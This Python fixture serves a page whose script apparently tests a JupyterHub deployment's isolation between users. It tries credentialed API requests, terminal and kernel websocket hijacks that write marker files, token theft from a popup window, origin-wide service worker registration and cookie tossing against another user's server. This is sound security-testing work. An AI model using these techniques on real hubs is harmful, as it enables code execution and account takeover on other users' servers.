"""The page another user serves (python3 attacker_page.py PORT), run in mallory's container on 127.0.0.1
and opened by alice through mallory's /proxy/PORT/ once mallory has shared her server with her.

  /             the page: its script tries, against the server named by ?target= (alice's, as a browser
                reaches it: /user/alice on one domain, http://alice.<hub host>/user/alice on subdomains),
                every way in that a page on the hub's domain has; the outcome of each is in
                window.attempts once window.done is true. It also answers with Set-Cookie for /, /hub/,
                the target's prefix and with a Domain, which the browser must not keep.
  /sw.js        a service worker answered with `Service-Worker-Allowed: /`, which the page registers for
                the whole origin.

Each attempt reports {name, got_in, detail}: got_in is true when the page ran a command, wrote, or read
what only alice may (a 2xx it could read, a websocket that opened, a frame it could read, a worker it
registered). The test checks the side effects itself too (files in alice's home, cookies in the jar).
"""
import http.server
import sys
from urllib.parse import parse_qs, urlsplit

PAGE = r"""<!doctype html>
<html><head><title>mallory's dashboard</title></head>
<body><h1>mallory's dashboard</h1><pre id="log"></pre>
<script>
const params = new URLSearchParams(location.search);
const target = params.get("target");             // alice's server, as this browser reaches it
const terminal = params.get("terminal") || "1";  // terminal names are small integers
const kernel = params.get("kernel");            // a kernel id, once known
const marker = params.get("marker");            // written into alice's home if a command runs
const wsBase = target.replace(/^http/, "ws").startsWith("ws") ? target.replace(/^http/, "ws")
             : (location.protocol === "https:" ? "wss://" : "ws://") + location.host + target;
const httpBase = target.startsWith("http") ? target : location.origin + target;
window.attempts = [];
window.done = false;
function record(name, got_in, detail) {
  window.attempts.push({name, got_in, detail: String(detail).slice(0, 200)});
  document.getElementById("log").textContent += name + ": " + (got_in ? "GOT IN" : "refused") + " (" + detail + ")\n";
}
function timeout(ms) { return new Promise(resolve => setTimeout(() => resolve("timeout"), ms)); }

async function tryFetch(name, url, options) {
  try {
    const response = await Promise.race([fetch(url, {credentials: "include", redirect: "manual", ...options}), timeout(15000)]);
    if (response === "timeout") return record(name, false, "timeout");
    if (response.type === "opaqueredirect") return record(name, false, "redirect");
    let body = "";
    try { body = await response.text(); } catch (e) { body = ""; }
    record(name, response.ok, response.status + " " + body.slice(0, 60));
  } catch (error) { record(name, false, "error " + error); }
}

function tryWebsocket(name, url, send, expect) {
  // got in: the upgrade succeeded (and, where `expect` is given, the answer came back)
  return new Promise(resolve => {
    let ws, settled = false;
    const finish = (got_in, detail) => { if (!settled) { settled = true; record(name, got_in, detail); try { ws.close(); } catch (e) {} resolve(); } };
    try { ws = new WebSocket(url); } catch (error) { return finish(false, "error " + error); }
    setTimeout(() => finish(false, "timeout"), 15000);
    ws.onopen = () => {
      if (send) send(ws);
      if (!expect) setTimeout(() => finish(true, "opened"), 1500);
    };
    ws.onmessage = event => { if (expect && String(event.data).includes(expect)) finish(true, "answered: " + String(event.data).slice(0, 60)); };
    ws.onerror = () => finish(false, "refused");
    ws.onclose = event => finish(false, "closed " + event.code);
  });
}

function tryFrame(name, url) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.src = url;
    let settled = false;
    const finish = (got_in, detail) => { if (!settled) { settled = true; record(name, got_in, detail); frame.remove(); resolve(); } };
    frame.onload = () => {
      try {
        const text = frame.contentDocument.documentElement.outerHTML;
        finish(text.length > 0 && !text.includes("chrome-error"), "read " + text.length + " characters");
      } catch (error) { finish(false, "not readable: " + error.name); }
    };
    setTimeout(() => finish(false, "timeout"), 15000);
    document.body.appendChild(frame);
  });
}

function tryPopup(name, url) {
  // a window of alice's JupyterLab: its page config holds the token her websockets use
  return new Promise(resolve => {
    let popup;
    try { popup = window.open(url, "_blank"); } catch (error) { record(name, false, "error " + error); return resolve(); }
    if (!popup) { record(name, false, "no window"); return resolve(); }
    let tries = 0;
    const look = setInterval(() => {
      tries += 1;
      let found = null;
      try { found = popup.document.getElementById("jupyter-config-data"); } catch (error) {
        clearInterval(look); record(name, false, "not readable: " + error.name); try { popup.close(); } catch (e) {} return resolve();
      }
      if (found || tries > 60) {
        clearInterval(look);
        const token = found ? (JSON.parse(found.textContent).token || "") : "";
        window.stolenToken = token;
        record(name, token.length > 0, found ? "page config read, token of " + token.length + " characters" : "no page config");
        try { popup.close(); } catch (e) {}
        resolve();
      }
    }, 250);
  });
}

function executeRequest(code) {
  const id = Math.random().toString(16).slice(2);
  return JSON.stringify({header: {msg_id: id, username: "mallory", session: id, msg_type: "execute_request",
                                  version: "5.3", date: new Date().toISOString()},
                         parent_header: {}, metadata: {}, channel: "shell", buffers: [],
                         content: {code, silent: false, store_history: false, user_expressions: {},
                                   allow_stdin: false, stop_on_error: true}});
}

async function registerWorker() {
  try {
    const registration = await navigator.serviceWorker.register("sw.js", {scope: "/"});
    // got in where the worker's scope covers alice's pages (on subdomains it covers only mallory's own)
    const scope = new URL(registration.scope), alice = new URL(httpBase + "/");
    record("service worker for the whole origin", scope.origin === alice.origin && alice.pathname.startsWith(scope.pathname),
           "registered for " + registration.scope);
  } catch (error) { record("service worker for the whole origin", false, "error " + error.name); }
}

function setCookieByScript() {
  try {
    document.cookie = "mallory-script=1; path=" + new URL(httpBase).pathname + "/";
    // only counts where it lands in alice's jar: the test reads the browser's cookies
    record("cookie set by script for alice's path", false, "asked (the test reads the jar)");
  } catch (error) { record("cookie set by script for alice's path", false, "error " + error.name); }
}

(async () => {
  await tryFetch("GET alice's /api/contents", httpBase + "/api/contents");
  await tryFetch("POST alice's /api/terminals", httpBase + "/api/terminals", {method: "POST"});
  await tryFetch("GET alice's app on /proxy/9090/", httpBase + "/proxy/9090/status/200");
  await tryFetch("POST to alice's app on /proxy/9090/", httpBase + "/proxy/9090/upload",
                 {method: "POST", body: "from mallory's page", headers: {"Content-Type": "text/plain"}});
  await tryFetch("POST to alice's app, Referer forged", httpBase + "/proxy/9090/upload",
                 {method: "POST", body: "from mallory's page", referrer: httpBase + "/lab", headers: {"Content-Type": "text/plain"}});
  await tryWebsocket("terminal websocket, then a command", wsBase + "/terminals/websocket/" + terminal,
                     ws => ws.send(JSON.stringify(["stdin", "echo pwned-by-mallory > ~/" + marker + "-terminal.txt\r"])));
  if (kernel) {
    await tryWebsocket("kernel channels websocket, then code", wsBase + "/api/kernels/" + kernel + "/channels",
                       ws => ws.send(executeRequest("open('/home/jovyan/" + marker + "-kernel.txt', 'w').write('pwned-by-mallory')")));
  }
  await tryWebsocket("VS Code's websocket", wsBase + "/vscode/?reconnectionToken=" + marker + "&reconnection=false&skipWebSocketFrames=false");
  await tryWebsocket("websocket to alice's app on /proxy/9090/", wsBase + "/proxy/9090/ws/echo",
                     ws => ws.send("echo-" + marker), "echo-" + marker);
  await tryFrame("read a frame of alice's /lab", httpBase + "/lab");
  await tryFrame("read a frame of alice's app", httpBase + "/proxy/9090/status/200");
  await tryPopup("read a window of alice's /lab", httpBase + "/lab");
  if (window.stolenToken) {  // what a page that read alice's window does next
    await tryWebsocket("terminal websocket with the token from that window", wsBase + "/terminals/websocket/" + terminal
                       + "?token=" + window.stolenToken,
                       ws => ws.send(JSON.stringify(["stdin", "echo pwned-by-mallory > ~/" + marker + "-stolen-token.txt\r"])));
  }
  await registerWorker();
  setCookieByScript();
  window.done = true;
})();
</script></body></html>
"""

WORKER = b"self.addEventListener('fetch', () => {});\n"


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def answer(self, body: bytes, headers):
        self.send_response(200)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        url = urlsplit(self.path)
        if url.path.endswith("/sw.js"):
            return self.answer(WORKER, [("Content-Type", "text/javascript"), ("Service-Worker-Allowed", "/")])
        target = parse_qs(url.query).get("target", ["/user/alice"])[0]
        prefix = urlsplit(target).path.rstrip("/") + "/"
        host = self.headers.get("Host", "localhost").split(":")[0]
        cookies = [f"mallory-root=1; Path=/", f"mallory-hub=1; Path=/hub/", f"mallory-alice=1; Path={prefix}",
                   f"mallory-domain=1; Path=/; Domain={host.split('.', 1)[-1] if '.' in host else host}"]
        return self.answer(PAGE.encode(), [("Content-Type", "text/html; charset=utf-8")]
                           + [("Set-Cookie", cookie) for cookie in cookies])


if __name__ == "__main__":
    http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
